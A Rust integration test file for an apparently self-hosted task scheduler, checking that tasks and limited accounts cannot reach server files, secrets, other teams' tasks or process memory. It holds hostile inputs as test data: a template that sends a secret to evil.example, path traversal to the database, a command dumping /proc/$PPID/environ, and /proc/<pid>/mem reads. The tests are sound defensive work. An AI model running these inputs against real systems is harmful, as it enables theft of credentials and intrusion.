//! Reading what is not one's own: files of the server, secrets, tasks of other accounts, and metrics.

use belfry::domain::tag_scope::TagScope;
use belfry::domain::user::{Actor, Role, Via};
use belfry::service::{Error, NewToken, NewUser};
use reqwest::Method;
use serde_json::{Value, json};

use crate::rig::Belfry;
#[cfg(target_os = "linux")]
use crate::server::{PROGRAM, belfry_by};
use crate::server::{Server, TOKEN, until};

/// An account limited to tags, with a token.
struct Account {
    actor: Actor,
    token: String,
}

async fn account(belfry: &Belfry, name: &str, role: Role, tags: &[&str]) -> Account {
    let tags: Vec<String> = tags.iter().map(|tag| (*tag).to_owned()).collect();
    let admin = Actor::new("admin", Role::Admin, Via::Api);
    let new = NewUser { name: name.into(), role, password: None, grants: Vec::new(), tags: tags.clone() };
    belfry.services.users.create(&admin, &new).await.expect("an account");
    let actor = Actor { scope: TagScope::from_tags(&tags), ..Actor::new(name, role, Via::Page) };
    let new = NewToken { name: "test".into(), role: None, tags: Vec::new(), expires_at: None };
    let (_, token) = belfry.services.tokens.create(&actor, &new).await.expect("a token");
    Account { actor, token }
}

impl Account {
    /// A call with the account's token; returns status and JSON.
    async fn call(&self, belfry: &Belfry, method: Method, path: &str, body: Value) -> (u16, Value) {
        let answer = belfry.anonymous(method, path).bearer_auth(&self.token).json(&body).send().await.expect("answers");
        (answer.status().as_u16(), answer.json().await.unwrap_or_default())
    }
}

fn task(id: &str, task_type: &str, tags: &[&str], params: Value) -> Value {
    json!({"id": id, "type": task_type, "tags": tags, "trigger": {"type": "interval", "hours": 100}, "params": params})
}

async fn create(belfry: &Belfry, task: Value) {
    belfry.expect_status(Method::POST, "/api/v1/tasks", task, 201).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn files_of_the_server_are_closed_to_tasks() {
    let belfry = Belfry::start_with(|settings| {
        // The worst case: a folder that contains everything.
        settings.files.folders = vec![settings.data_dir.parent().expect("a folder").to_owned()];
    })
    .await;
    let data = belfry.folder.path().join("data");
    create(&belfry, task("backup", "backup", &[], json!({"keep": 1}))).await;
    let backup = belfry.run("backup").await;
    let file = backup["result"]["file"].as_str().unwrap_or_else(|| panic!("{backup}")).to_owned();
    assert!(data.join("backups").join(&file).exists(), "{backup}");
    std::fs::create_dir_all(data.join("tasks")).expect("a folder");
    for own in ["secret.key", "tasks/run.sh", "scheduler.log"] {
        std::fs::write(data.join(own), "x").expect("writes");
    }
    std::fs::write(data.join("files/free.log"), "x").expect("writes");
    let search = |path: String| json!({"source": "file", "path": path});
    create(&belfry, task("search", "query_log", &[], search("free.log".into()))).await;
    assert_eq!(belfry.run("search").await["status"], "succeeded");
    let absolute = |name: &str| data.join(name).display().to_string();
    let backup_path = format!("backups/{file}");
    for path in [
        format!("../{backup_path}"),
        absolute(&backup_path),
        absolute("task.db"),
        absolute("task.db-wal"),
        absolute("secret.key"),
        absolute("scheduler.log"),
        absolute("tasks/run.sh"),
        "../task.db".to_owned(),
    ] {
        let run = json!({"params": search(path.clone())});
        let started = belfry.expect_status(Method::POST, "/api/v1/tasks/search/run", run, 202).await;
        let ended = finished(&belfry, &started).await;
        assert!(ended["error"].as_str().unwrap_or_default().contains("[files] folders"), "{path}: {ended}");
    }
    create(&belfry, task("away", "backup", &[], json!({"to": absolute("files")}))).await;
    assert!(belfry.run("away").await["error"].as_str().unwrap_or_default().contains("[backup] folders"));
    belfry.end().await;
}

async fn finished(belfry: &Belfry, started: &Value) -> Value {
    let path = format!("/api/v1/executions/{}", started["id"].as_str().expect("an id"));
    until("the run", || async {
        let run = belfry.expect_status(Method::GET, &path, Value::Null, 200).await;
        run["finished_at"].is_string().then_some(run)
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn operators_cannot_read_secrets_by_overriding_parameters() {
    let belfry = Belfry::start().await;
    belfry.expect_status(Method::PUT, "/api/v1/secrets/key", json!({"value": "hunter2-and-more"}), 200).await;
    let params = json!({"url": format!("{}/healthz", belfry.url("")), "method": "POST", "json": {"a": 1}});
    create(&belfry, task("call", "http_request", &[], params)).await;
    create(&belfry, task("echo", "echo", &[], json!({"message": "hello"}))).await;
    let operator = account(&belfry, "otto", Role::Operator, &[]).await;
    let run = async |id: &str, params: Value| {
        operator.call(&belfry, Method::POST, &format!("/api/v1/tasks/{id}/run"), json!({"params": params})).await
    };
    let (status, problem) = run("call", json!({"url": "https://evil.example/?{{ secret('key') }}"})).await;
    assert_eq!((status, &problem["errors"][0]["pointer"]), (422, &json!("/params/url")), "{problem}");
    for member in ["headers", "auth", "proxy", "http", "method"] {
        assert_eq!(run("call", json!({member: "x"})).await.0, 422, "{member}");
    }
    let (status, problem) = run("echo", json!({"message": "{{ secret('key') | reverse }}"})).await;
    assert_eq!((status, &problem["errors"][0]["pointer"]), (422, &json!("/params/message")), "{problem}");
    assert_eq!(run("call", json!({"json": {"deep": ["{{ secret('key') }}"]}})).await.0, 422);
    assert_eq!(run("call", json!({"json": {"a": 2}})).await.0, 202, "content without templates");
    assert_eq!(run("echo", json!({"message": "plain"})).await.0, 202);
    belfry.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn limited_editors_cannot_take_the_tags_that_open_secrets_and_folders() {
    let shared = tempfile::tempdir().expect("a folder");
    std::fs::write(shared.path().join("pay.log"), "x").expect("writes");
    let path = shared.path().to_owned();
    let belfry = Belfry::start_with(move |settings| {
        let folder = belfry::config::TaggedFolder { path, tags: vec!["payroll".into()] };
        settings.files.named.insert("payroll".into(), folder);
    })
    .await;
    let secret = json!({"value": "hunter2-and-more", "tags": ["finance"]});
    let kept = belfry.expect_status(Method::PUT, "/api/v1/secrets/key", secret, 200).await;
    assert_eq!((&kept["tags"], &kept["tasks"]), (&json!(["finance"]), &json!([])));
    let editor = account(&belfry, "eddie", Role::Editor, &["red"]).await;
    for tag in ["finance", "payroll"] {
        let body = task("a", "echo", &["red", tag], json!({"message": "{{ secret('key') }}"}));
        let (status, problem) = editor.call(&belfry, Method::POST, "/api/v1/tasks", body).await;
        assert_eq!((status, &problem["errors"][0]["pointer"]), (422, &json!("/tags")), "{tag}: {problem}");
    }
    let search = json!({"source": "file", "path": shared.path().join("pay.log").display().to_string()});
    for (id, tags, status) in [("mine", vec!["payroll"], "succeeded"), ("other", vec!["x"], "failed")] {
        create(&belfry, task(id, "query_log", &tags, search.clone())).await;
        assert_eq!(belfry.run(id).await["status"], status, "{id}");
    }
    belfry.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn links_do_not_reach_a_task_of_another_team_that_takes_the_id() {
    let belfry = Belfry::start().await;
    let (red, blue) =
        (account(&belfry, "rita", Role::Editor, &["red"]).await, account(&belfry, "bill", Role::Editor, &["blue"]).await);
    let echo = |id: &str, tag: &str| task(id, "echo", &[tag], json!({"message": "hello"}));
    let call = async |account: &Account, method: Method, path: &str, body: Value| {
        let (status, answer) = account.call(&belfry, method, path, body).await;
        assert!(status < 300, "{path}: {status} {answer}");
        answer
    };
    call(&red, Method::POST, "/api/v1/tasks", echo("target", "red")).await;
    let mut first = echo("first", "red");
    first["chain"] = json!([{"on": "always", "task": "target"}]);
    call(&red, Method::POST, "/api/v1/tasks", first).await;
    call(&red, Method::DELETE, "/api/v1/tasks/target", Value::Null).await;
    call(&blue, Method::POST, "/api/v1/tasks", echo("target", "blue")).await;
    let started = call(&red, Method::POST, "/api/v1/tasks/first/run", json!({})).await;
    finished(&belfry, &started).await;
    // Another change of the task does not revive the link either.
    call(&red, Method::PATCH, "/api/v1/tasks/first", json!({"name": "renamed"})).await;
    let started = call(&red, Method::POST, "/api/v1/tasks/first/run", json!({})).await;
    finished(&belfry, &started).await;
    let runs = belfry.expect_status(Method::GET, "/api/v1/executions?task_id=target", Value::Null, 200).await;
    let listed = runs["items"].as_array().unwrap_or_else(|| panic!("{runs}"));
    assert!(listed.iter().all(|run| run["task_id"] != "target"), "{runs}");
    belfry.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn parameters_of_a_deleted_task_are_not_run_by_its_successor() {
    let belfry = Belfry::start().await;
    belfry.echo("a").await;
    let run = belfry.run("a").await;
    let rerun = format!("/api/v1/executions/{}/rerun", run["id"].as_str().expect("an id"));
    belfry.expect_status(Method::POST, &rerun, json!({}), 202).await;
    belfry.expect_status(Method::DELETE, "/api/v1/tasks/a", Value::Null, 204).await;
    create(&belfry, task("a", "send_cmd", &[], json!({"command": "true"}))).await;
    let refused = belfry.expect_status(Method::POST, &rerun, json!({}), 409).await;
    assert!(refused["detail"].as_str().unwrap_or_default().contains("was created again"), "{refused}");
    belfry.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn changed_parameters_of_a_dangerous_type_are_not_rerun_without_the_right_to_it() {
    let belfry = Belfry::start().await;
    create(&belfry, task("cmd", "send_cmd", &[], json!({"command": "true"}))).await;
    let run = belfry.run("cmd").await;
    let rerun = format!("/api/v1/executions/{}/rerun", run["id"].as_str().expect("an id"));
    let operator = account(&belfry, "otto", Role::Operator, &[]).await;
    assert_eq!(operator.call(&belfry, Method::POST, &rerun, json!({})).await.0, 202, "the task's own parameters");
    let change = json!({"params": {"command": "exit 0"}});
    belfry.expect_status(Method::PATCH, "/api/v1/tasks/cmd", change, 200).await;
    assert_eq!(operator.call(&belfry, Method::POST, &rerun, json!({})).await.0, 403);
    belfry.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn rerun_shows_nothing_of_an_execution_outside_the_scope() {
    let belfry = Belfry::start().await;
    let message = "{{ previous.result.message | default(value=\"nothing\") }}";
    create(&belfry, task("report", "echo", &["red"], json!({"message": message}))).await;
    let mut payroll = task("payroll", "echo", &["blue"], json!({"message": "salaries"}));
    payroll["chain"] = json!([{"task": "report"}]);
    create(&belfry, payroll).await;
    belfry.run("payroll").await;
    let chained = until("the chained run", || async {
        let runs = belfry.expect_status(Method::GET, "/api/v1/executions?task_id=report", Value::Null, 200).await;
        runs["items"].as_array()?.iter().find(|run| run["finished_at"].is_string()).cloned()
    })
    .await;
    assert_eq!((&chained["cause"], &chained["status"]), (&json!("chain"), &json!("succeeded")));
    let rerun = format!("/api/v1/executions/{}/rerun", chained["id"].as_str().expect("an id"));
    let red = account(&belfry, "rita", Role::Operator, &["red"]).await;
    let (status, started) = red.call(&belfry, Method::POST, &rerun, json!({})).await;
    assert_eq!(status, 202, "{started}");
    let run = finished(&belfry, &started).await;
    assert!(run["status"] == "failed" || run["result"]["message"] == "nothing", "{run}");
    let started = belfry.expect_status(Method::POST, &rerun, json!({}), 202).await;
    assert_eq!(finished(&belfry, &started).await["result"]["message"], "salaries", "who sees both tasks");
    belfry.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn limited_accounts_see_nothing_of_others_on_the_import_page() {
    let belfry = Belfry::start().await;
    let status = belfry::service::FileStatus {
        name: "tasks.yaml".into(),
        at: belfry.services.clock.now(),
        errors: vec![belfry::i18n::Message::verbatim("payroll-of-blue: no such type")],
    };
    belfry.services.tasks_file.set_status(status);
    let red = account(&belfry, "rita", Role::Editor, &["red"]).await;
    assert_eq!(belfry.services.tasks_file.status(&red.actor).expect("answers"), None);
    let admin = Actor::new("admin", Role::Admin, Via::Page);
    assert!(belfry.services.tasks_file.status(&admin).expect("answers").is_some());
    // A loop through a task of another team: red-1 → blue → red-2 → red-1.
    let chained = |id: &str, tag: &str, to: &str| {
        let mut body = task(id, "echo", &[tag], json!({}));
        body["chain"] = json!([{"task": to}]);
        body
    };
    create(&belfry, task("red-1", "echo", &["red"], json!({}))).await;
    create(&belfry, task("red-2", "echo", &["red"], json!({}))).await;
    create(&belfry, chained("payroll-of-blue", "blue", "red-2")).await;
    let change = json!({"chain": [{"task": "payroll-of-blue"}]});
    belfry.expect_status(Method::PATCH, "/api/v1/tasks/red-1", change, 200).await;
    let document = json!({"tasks": [chained("red-2", "red", "red-1")]});
    let import = belfry::service::Import { dry_run: true, ..belfry::service::Import::default() };
    let refused = belfry.services.transfer.import(&red.actor, &document, import).await;
    let Err(Error::Invalid(faults)) = refused else { panic!("{refused:?}") };
    let message = faults[0].message.to_string();
    assert!(message.contains("red-1 → … → red-2") && !message.contains("payroll"), "{message}");
    belfry.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn tasks_cannot_read_the_metrics_from_this_machine() {
    let belfry = Belfry::start().await;
    create(&belfry, task("scrape", "http_request", &[], json!({"url": belfry.url("/metrics")}))).await;
    let run = belfry.run("scrape").await;
    assert_eq!((&run["status"], &run["result"]["status"]), (&json!("failed"), &json!(401)), "{run}");
    belfry.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn tasks_cannot_set_headers_of_the_connection() {
    let belfry = Belfry::start().await;
    for name in ["Host", "Content-Length", "Transfer-Encoding", "Connection"] {
        let params = json!({"url": "http://example.com/", "headers": {name: "evil.example"}});
        let refused = belfry.expect_status(Method::POST, "/api/v1/tasks", task("a", "http_request", &[], params), 422).await;
        assert_eq!(refused["errors"][0]["pointer"], format!("/params/headers/{name}"), "{refused}");
    }
    belfry.end().await;
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn files_of_the_server_are_for_its_account_only() {
    use std::os::unix::fs::PermissionsExt;
    let folder = tempfile::tempdir().expect("a folder");
    let server = Server::start(folder.path());
    let data = folder.path().join("data");
    let mode = |name: &str| std::fs::metadata(data.join(name)).expect("is there").permissions().mode() & 0o777;
    assert_eq!(mode("."), 0o700);
    for name in ["task.db", "task.db-wal", "task.db-shm", "scheduler.log"] {
        assert_eq!(mode(name), 0o600, "{name}");
    }
    server.kill();
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread")]
async fn commands_find_no_secrets_in_the_environment_of_the_server() {
    let folder = tempfile::tempdir().expect("a folder");
    let variables = [
        ("BELFRY_SMTP_OFFICE_HOST", "mail.example"),
        ("BELFRY_SMTP_OFFICE_USER", "belfry@mail.example"),
        ("BELFRY_SMTP_OFFICE_PASSWORD", "hunter2-of-the-mail"),
    ];
    let server = Server::start_with(folder.path(), &variables);
    let command = "tr '\\0' '\\n' < /proc/$PPID/environ || echo unreadable; env";
    let task = task("spy", "send_cmd", &[], json!({"command": command}));
    assert_eq!(server.post("/api/v1/tasks", &task).send().await.expect("answers").status(), 201);
    let started: Value =
        server.post("/api/v1/tasks/spy/run", &json!({})).send().await.expect("answers").json().await.expect("JSON");
    let path = format!("/api/v1/executions/{}", started["id"].as_str().expect("an id"));
    let run = until("the run", || async {
        let run = server.json(&path).await;
        run["finished_at"].is_string().then_some(run)
    })
    .await;
    let shown = run["result"]["stdout_tail"].as_str().unwrap_or_else(|| panic!("{run}")).to_owned();
    let output = server.get(&format!("{path}/output")).send().await.expect("answers").text().await.expect("text");
    // A value that was masked only would be shown as ***.
    for text in [&shown, &output] {
        assert!(!text.contains(TOKEN) && !text.contains("hunter2") && !text.contains("PASSWORD=***"), "{text}");
    }
    assert!(shown.contains("BELFRY_EXECUTION_ID="), "{shown}");
    server.kill();
}

/// The account of the server in the next test, and of what attacks it: the own one, or nobody if that is root.
#[cfg(target_os = "linux")]
fn plain_account() -> u32 {
    const NOBODY: u32 = 65_534;
    match own_account() {
        0 => NOBODY,
        own => own,
    }
}

/// Starts a program as an account.
#[cfg(target_os = "linux")]
fn started_as(account: u32, mut command: std::process::Command) -> std::process::Command {
    use std::os::unix::process::CommandExt;
    if account != own_account() {
        command.uid(account).gid(account);
    }
    command
}

/// The account of this process.
#[cfg(target_os = "linux")]
fn own_account() -> u32 {
    std::os::unix::fs::MetadataExt::uid(&std::fs::metadata("/proc/self").expect("this process"))
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread")]
async fn memory_of_the_server_is_closed_to_processes_of_its_account() {
    use std::process::{Command, Stdio};
    let account = plain_account();
    let folder = tempfile::tempdir().expect("a folder");
    // The account may not reach the folder of the build.
    let program = folder.path().join("belfry");
    std::fs::copy(PROGRAM, &program).expect("copies the program");
    std::os::unix::fs::chown(folder.path(), Some(account), Some(account)).expect("gives the folder away");
    let server = Server::launch(started_as(account, belfry_by(Command::new(&program), folder.path())));
    let mut other = started_as(account, Command::new("sleep")).arg("60").stdout(Stdio::null()).spawn().expect("starts");
    let read = |process: u32, file: &str| {
        let mut command = started_as(account, Command::new("dd"));
        let status =
            command.arg(format!("if=/proc/{process}/{file}")).args(["of=/dev/null", "count=1"]).output().expect("runs").status;
        status.success()
    };
    assert!(read(other.id(), "environ"), "the account may read what its other processes have");
    for file in ["environ", "auxv"] {
        assert!(!read(server.id(), file), "/proc/<pid>/{file} of the server");
    }
    let mut open = started_as(account, Command::new("sh"));
    let opened = open.args(["-c", &format!("exec 3< /proc/{}/mem", server.id())]).stderr(Stdio::null()).status().expect("runs");
    assert!(!opened.success(), "/proc/<pid>/mem of the server");
    other.kill().expect("ends");
    other.wait().expect("ends");
    server.kill();
}
